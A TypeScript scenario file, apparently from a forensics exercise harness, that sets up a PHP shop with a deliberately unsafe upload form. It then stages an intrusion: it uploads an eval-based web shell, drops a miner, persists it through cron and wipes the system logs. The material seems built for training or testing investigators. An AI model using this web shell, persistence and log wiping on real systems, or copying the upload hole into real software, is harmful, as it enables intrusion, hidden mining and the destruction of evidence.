// Every log is empty, and cron has restarted the miner; the uploads, their owner and the account that mines are left.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  noJournal(dress)
  nginx(
    dress,
    'root /srv/www; index index.php; location ~ \\.php$ { include fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }',
  )
  dress.write('/srv/www/index.php', "<?php echo 'shop';\n")
  // A form that keeps what it is given under the name it is given.
  dress.write('/srv/www/upload.php', "<?php file_put_contents('uploads/' . basename($_GET['name']), file_get_contents('php://input'));\n")
  dress.write('/srv/www/uploads/logo.png', 'PNG', { owner: 33 })
  dress.own('/srv/www/uploads', 33)
  dress.enable('nginx', 'php8.2-fpm')
}

export async function plant(stage: Stage): Promise<void> {
  const from = '203.0.113.165'
  const line = dropper(stage, { path: '/var/tmp/.w3/w3d' })
  await stage.inside('mkdir -p /home/www-data; chown www-data: /home/www-data')
  stage.mark('occurrence')
  await stage.http(from, '/upload.php?name=thumb_7731.php', "<?php @eval(base64_decode($_POST['z'])); ?>\n")
  const code = Buffer.from(`system('${line}');`).toString('base64')
  await stage.http(from, '/uploads/thumb_7731.php', `z=${encodeURIComponent(code)}`)
  await stage.inside('while ! pgrep -x w3d; do sleep 0.2; done; pkill -x w3d')
  await stage.byCron(line, 'www-data')
  await wipe(stage, ['web', 'auth', 'syslog', 'cron', 'logins'])
}
